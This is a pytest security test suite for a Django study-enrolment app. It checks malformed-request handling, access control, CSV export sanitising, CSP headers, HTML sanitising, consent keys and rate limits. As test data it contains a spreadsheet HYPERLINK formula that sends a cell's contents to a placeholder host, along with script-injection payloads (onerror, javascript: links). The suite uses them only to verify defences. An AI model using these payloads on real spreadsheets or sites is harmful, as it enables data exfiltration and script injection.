"""Issue 12 on the study pages: malformed requests, ownership, safe exports, the demo login, the CSP and
sanitised HTML, signed consent keys and the per-client limit. Each refusal is a 4xx and leaves no row."""

import io
import re

import pandas as pd
import pytest
from django.contrib.auth.models import Group, Permission
from django.core.cache import cache
from django.core.exceptions import ImproperlyConfigured
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from study.models import Access, Arm, Item, Participant, Stimulus, Study, StudyShare, Trial
from study.building import demo
from study.research import export
from study.survey import enrolment
from tests.conftest import ROOT
from tests.factories import make_study
from tests.integration.study.participant_helpers import consent, run_to_completion

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'


def staff(django_user_model, name: str):
    return django_user_model.objects.create_user(name, password="pw-Secret-123", is_staff=True)


# Malformed requests -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/media/items/a%00.png", "/p/%00/", "/p/%00/answer/", "/s/%00/",
                                 "/r/gaze/x/s/%00/", "/r/studies/%00/", "/p/" + "x" * 2000 + "/"])
def test_nul_bytes_and_overlong_paths_are_404(client, django_user_model, url):
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.org", "pw-Secret-123"))
    make_study()
    assert client.get(url).status_code == 404
    assert client.post(url, {"x": "1"}).status_code == 404
    assert Participant.objects.count() == 0


def test_nul_bytes_and_overlong_values_in_queries_and_forms_are_400(client):
    make_study()
    assert client.get("/s/s1/?PROLIFIC_PID=a%00b").status_code == 400
    assert client.get("/s/s1/?x=" + "y" * 3000).status_code == 400
    landing = client.get("/s/s1/")
    form = {"consent_key": landing.context["consent_key"], "x": "a\x00"}
    assert client.post("/s/s1/", form).status_code == 400
    assert Participant.objects.count() == 0


@pytest.mark.parametrize("charset", ["latin-1", "no-such-charset"])
def test_a_form_in_another_charset_is_400_also_on_the_csrf_path(charset):
    make_study()
    client = Client(enforce_csrf_checks=True)
    client.get("/s/s1/")  # sets the CSRF cookie
    for body in (b"consent_key=abc&x=\xe9\xff", b"consent_key=abc"):
        response = client.generic("POST", "/s/s1/", body,
                                  content_type=f"application/x-www-form-urlencoded; charset={charset}")
        assert response.status_code == 400
        assert b"Traceback" not in response.content
    assert Participant.objects.count() == 0


def test_a_body_past_the_limit_is_413_before_it_is_read(client):
    make_study()
    response = client.generic("POST", "/s/s1/", b"x=1", content_type="application/x-www-form-urlencoded",
                              CONTENT_LENGTH=str(1_100_000_000))
    assert response.status_code == 413
    assert Participant.objects.count() == 0


@pytest.mark.parametrize("request_kind", ["nul-path", "bad-query", "bad-charset", "too-large"])
def test_refusals_carry_the_security_headers_of_every_page(client, request_kind):
    make_study()
    response = {
        "nul-path": lambda: client.get("/p/%00/"),
        "bad-query": lambda: client.get("/s/s1/?PROLIFIC_PID=a%00b"),
        "bad-charset": lambda: client.generic("POST", "/s/s1/", b"x=1",
                                              content_type="application/x-www-form-urlencoded; charset=nope"),
        "too-large": lambda: client.generic("POST", "/s/s1/", b"x=1", CONTENT_LENGTH=str(1_100_000_000),
                                            content_type="application/x-www-form-urlencoded"),
    }[request_kind]()
    assert response.status_code in (400, 404, 413)
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"


# Ownership ----------------------------------------------------------------------------------------


def study_urls(slug: str) -> list[str]:
    names = ["researcher-dashboard", "researcher-trials-csv", "researcher-participants-csv",
             "researcher-trials-parquet", "researcher-participants-parquet"]
    return [reverse(name, args=[slug]) for name in names]


def test_staff_see_only_their_studies_and_shares_grant_exactly_view_or_edit(client, django_user_model):
    owner, other = staff(django_user_model, "owner"), staff(django_user_model, "other")
    study = make_study("mine", owner=owner)
    client.force_login(owner)
    assert [client.get(url).status_code for url in study_urls("mine")] == [200] * 5
    assert b"mine" in client.get(reverse("researcher-home")).content

    client.force_login(other)
    assert [client.get(url).status_code for url in study_urls("mine")] == [404] * 5
    assert b"/r/studies/mine/" not in client.get(reverse("researcher-home")).content

    share = StudyShare.objects.create(study=study, user=other, access=Access.VIEW)
    assert [client.get(url).status_code for url in study_urls("mine")] == [200] * 5
    other.user_permissions.add(*Permission.objects.filter(codename__in=["view_study", "change_study"]))
    change = reverse("admin:study_study_change", args=[study.pk])
    page = client.get(change)
    assert page.status_code == 200 and b'name="title"' not in page.content  # view only
    assert client.post(change, {"title": "taken"}).status_code == 403
    share.access = Access.EDIT
    share.save()
    assert b'name="title"' in client.get(change).content

    share.delete()
    group = Group.objects.create(name="lab")
    other.groups.add(group)
    StudyShare.objects.create(study=study, group=group, access=Access.VIEW)
    assert client.get(study_urls("mine")[0]).status_code == 200


def test_admin_list_filters_name_only_the_studies_the_user_may_see(client, django_user_model):
    owner, other = staff(django_user_model, "owner"), staff(django_user_model, "other")
    make_study("mine", owner=owner)
    make_study("someone-elses-secret-study", owner=other)
    owner.user_permissions.add(*Permission.objects.filter(
        codename__in=["view_item", "view_participant", "view_trial"]))
    client.force_login(owner)
    for model in ("item", "participant", "trial"):
        page = client.get(reverse(f"admin:study_{model}_changelist"))
        assert page.status_code == 200
        assert b"someone-elses-secret-study" not in page.content, model
    # With two studies of their own, the filter is shown, with those two.
    make_study("mine-too", owner=owner)
    content = client.get(reverse("admin:study_item_changelist")).content.decode()
    assert "By study" in content and ">mine-too</a>" in content
    assert "someone-elses-secret-study" not in content


def test_superusers_see_every_study_and_studies_without_owner_are_theirs_only(client, django_user_model):
    make_study("orphan")
    client.force_login(staff(django_user_model, "staff"))
    assert client.get(study_urls("orphan")[0]).status_code == 404
    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.org", "pw-Secret-123"))
    assert [client.get(url).status_code for url in study_urls("orphan")] == [200] * 5


def test_build_study_command_refuses_an_unknown_owner():
    with pytest.raises(Exception, match="No user named 'nobody'"):
        call_command("build_study", "x", "--model", "m", "--dataset", "d", "--owner", "nobody")
    assert not Study.objects.exists()


# Exports ------------------------------------------------------------------------------------------


@pytest.fixture
def formula_study(client):
    study = make_study("f", n_correct=1, n_incorrect=0)
    Arm.objects.filter(study=study, position=0).update(name="-arm")
    item = Item.objects.get(study=study)
    options = [FORMULA, "+1", "@me", "\tx", "\rx", "-1", "plain"]
    Item.objects.filter(pk=item.pk).update(name="=1+1", model_prediction=FORMULA, options=options)
    Stimulus.objects.filter(item=item).update(target=FORMULA)  # the stimulus explains the prediction
    participant = consent(client, "f")
    client.post(f"/p/{participant.token}/intro/")
    trial = participant.trials.get()
    client.get(f"/p/{participant.token}/")
    client.post(f"/p/{participant.token}/answer/", {"trial": trial.pk, "option": FORMULA, "rt_ms": 5})
    return Study.objects.get(pk=study.pk)


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(formula_study, tmp_path):
    text = "".join(export.trials_csv(formula_study))
    rows = list(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).itertuples(index=False))
    (row,) = rows
    assert row.item == "'=1+1"
    assert row.model_prediction == row.chosen_option == "'" + FORMULA
    assert row.rt_ms == "5"  # a number stays a number
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    call_command("export_results", "f", "--out", str(tmp_path), "--format", "both", stdout=io.StringIO())
    assert (tmp_path / "trials.csv").read_bytes().decode() == text


def test_parquet_keeps_every_value_exact(formula_study, tmp_path):
    call_command("export_results", "f", "--out", str(tmp_path), "--format", "parquet", stdout=io.StringIO())
    for table, frame in export.FRAMES.items():
        read = pd.read_parquet(tmp_path / f"{table}.parquet")
        pd.testing.assert_frame_equal(read, frame(formula_study))
    assert pd.read_parquet(tmp_path / "trials.parquet")["chosen_option"].tolist() == [FORMULA]


# Demo login ---------------------------------------------------------------------------------------


def test_the_demo_login_is_only_made_with_debug(settings, django_user_model):
    settings.DEBUG = False
    with pytest.raises(ImproperlyConfigured):
        demo.ensure_researcher()
    assert not django_user_model.objects.exists()
    settings.DEBUG = True
    demo.ensure_researcher()
    settings.DEBUG = False
    assert demo.disable_demo_password()  # a production database never keeps the known password
    user = django_user_model.objects.get(username=demo.RESEARCHER)
    assert not user.has_usable_password()
    assert not Client().login(username=demo.RESEARCHER, password=demo.PASSWORD)


# CSP and researcher-written HTML ------------------------------------------------------------------


def test_pages_send_a_csp_with_scripts_from_the_site_only(client):
    make_study()
    csp = client.get("/s/s1/")["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp


def test_no_template_holds_an_inline_script_style_or_event_handler():
    for template in (ROOT / "study" / "templates").rglob("*.html"):
        text = template.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), template
        assert "<style" not in text and " style=" not in text, template
        assert not re.search(r"\son[a-z]+\s*=", text), template


def test_researcher_html_is_sanitised_on_every_write(client):
    study = make_study(consent_text='<p onclick="x()">Consent</p><script>alert(1)</script>')
    evil = '<p>Intro</p><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a><script>y</script>'
    arm = study.arms.first()
    arm.intro_html = evil
    arm.save()
    Arm.objects.filter(pk=study.arms.last().pk).update(intro_html=evil)
    for value in [*Arm.objects.values_list("intro_html", flat=True), Study.objects.get().consent_text]:
        assert "<script" not in value and "onerror" not in value and "onclick" not in value
        assert "javascript:" not in value
    assert b"<script>alert" not in client.get("/s/s1/").content
    participant = consent(client)
    assert b"onerror" not in client.get(f"/p/{participant.token}/").content


# Consent -------------------------------------------------------------------------------------------


def test_only_consent_keys_the_server_signed_for_the_study_are_taken(client):
    study = make_study()
    other = make_study("s2")
    for key in ["k" * 32, enrolment.issue_consent_key(other), enrolment.issue_consent_key(study) + "x"]:
        assert client.post("/s/s1/", {"consent_key": key}).status_code == 400
    assert Participant.objects.count() == 0
    key = enrolment.issue_consent_key(study)
    first = client.post("/s/s1/", {"consent_key": key})
    again = Client().post("/s/s1/", {"consent_key": key})  # a resubmitted form, even from another tab
    assert first.status_code == again.status_code == 302 and first.url == again.url
    assert Participant.objects.count() == 1


def test_new_participants_per_client_are_limited_with_a_429_page(client):
    make_study(new_participants_per_client_hour=2)
    for _ in range(2):
        consent(Client())
    response = Client().post("/s/s1/", {"consent_key": Client().get("/s/s1/").context["consent_key"]})
    assert response.status_code == 429 and response["Retry-After"] == "3600"
    assert b"Too many people have started this study from your network" in response.content
    assert Participant.objects.count() == 2
    assert not any("127.0.0.1" in str(key) for key in cache._cache)  # only a keyed hash of the address
    other_address = Client(REMOTE_ADDR="10.0.0.9")
    consent(other_address)
    assert Participant.objects.count() == 3


def test_an_arm_cap_sends_participants_to_the_other_arms_then_the_study_is_full(client):
    study = make_study()
    Arm.objects.filter(study=study, position=0).update(max_participants=1)
    Arm.objects.filter(study=study, position=1).update(max_participants=2)
    arms = [consent(Client()).arm.position for _ in range(3)]
    assert sorted(arms) == [0, 1, 1]
    response = Client().post("/s/s1/", {"consent_key": Client().get("/s/s1/").context["consent_key"]})
    assert response.status_code == 410 and b"all the participants it needs" in response.content
    assert Participant.objects.count() == 3
    run_to_completion(Client(), Participant.objects.first())  # the flow itself is untouched
    assert Trial.objects.filter(answered_at__isnull=False).count() == study.items.count()


# Settings -----------------------------------------------------------------------------------------


def test_hsts_is_off_by_default_and_opt_in(settings):
    from tests.integration.study.test_settings import PRODUCTION_ENV, run_manage

    code = ("from django.conf import settings as s; "
            "print(s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_INCLUDE_SUBDOMAINS, s.SECURE_HSTS_PRELOAD)")
    env = {k: v for k, v in PRODUCTION_ENV.items() if k != "SECURE_HSTS_SECONDS"}
    assert run_manage("shell", "-v", "0", "-c", code, env=env).stdout.split() == ["0", "False", "False"]
    env.update(SECURE_HSTS_SECONDS="600", SECURE_HSTS_INCLUDE_SUBDOMAINS="1")
    assert run_manage("shell", "-v", "0", "-c", code, env=env).stdout.split() == ["600", "True", "False"]
